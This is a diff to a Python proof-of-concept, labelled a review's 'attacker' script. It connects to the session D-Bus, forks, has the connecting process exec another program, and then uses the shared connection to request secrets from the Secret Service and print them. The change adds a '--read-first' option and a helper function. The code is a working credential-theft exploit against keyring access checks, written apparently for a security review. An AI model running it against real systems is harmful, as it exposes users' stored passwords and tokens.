@@ -1,8 +1,10 @@
 #!/usr/bin/python3
 """Review 55's attacker: a bus connection whose connecting process then runs another program.
 
-  exec_after_connect.py KEY=VALUE PROGRAM ARGS...
-      Connects to the session bus (Hello), forks, and the connecting process execs PROGRAM with
+  exec_after_connect.py [--read-first] KEY=VALUE PROGRAM ARGS...
+      Connects to the session bus (Hello) (with --read-first, asks for the secrets once, as
+      itself, before going on: the service has then looked at who it is), forks, and the
+      connecting process execs PROGRAM with
       its output thrown away; the child, holding the same connection, waits for the exec and then
       asks the Secret Service for the secrets of the items KEY=VALUE finds (GetSecrets, plain
       session). Prints each secret, or the error's name; kills PROGRAM before it exits.
@@ -17,10 +19,25 @@ from jeepney import DBusAddress, HeaderFields, MessageType, new_method_call
 from jeepney.io.blocking import open_dbus_connection
 
 
+def get_secrets(conn, service, key, value):
+    found = conn.send_and_get_reply(new_method_call(service, 'SearchItems', 'a{ss}', ({key: value},))).body
+    session = conn.send_and_get_reply(new_method_call(service, 'OpenSession', 'sv', ('plain', ('s', '')))).body[1]
+    return conn.send_and_get_reply(new_method_call(service, 'GetSecrets', 'aoo', (found[0] + found[1], session)),
+                                   timeout=90)
+
+
 def main():
-    key, value = sys.argv[1].split('=', 1)
-    program = sys.argv[2:]
+    args = sys.argv[1:]
+    read_first = args[0] == '--read-first'
+    if read_first:
+        args = args[1:]
+    key, value = args[0].split('=', 1)
+    program = args[1:]
     conn = open_dbus_connection(bus='SESSION')
+    service = DBusAddress('/org/freedesktop/secrets', bus_name='org.freedesktop.secrets',
+                          interface='org.freedesktop.Secret.Service')
+    if read_first:
+        get_secrets(conn, service, key, value)
     ready_r, ready_w = os.pipe()  # both close-on-exec: EOF in the child once the parent exec'd
     pid = os.fork()
     if pid:
@@ -36,14 +53,8 @@ def main():
         if os.readlink(f'/proc/{parent}/exe') == os.path.realpath(program[0]):
             break
         time.sleep(0.05)
-    service = DBusAddress('/org/freedesktop/secrets', bus_name='org.freedesktop.secrets',
-                          interface='org.freedesktop.Secret.Service')
     try:
-        found = conn.send_and_get_reply(new_method_call(service, 'SearchItems', 'a{ss}', ({key: value},))).body
-        session = conn.send_and_get_reply(
-            new_method_call(service, 'OpenSession', 'sv', ('plain', ('s', '')))).body[1]
-        reply = conn.send_and_get_reply(new_method_call(service, 'GetSecrets', 'aoo', (found[0] + found[1], session)),
-                                        timeout=90)
+        reply = get_secrets(conn, service, key, value)
         if reply.header.message_type == MessageType.error:
             print(reply.header.fields.get(HeaderFields.error_name, 'error'))  # ERROR_NAME
             return 1
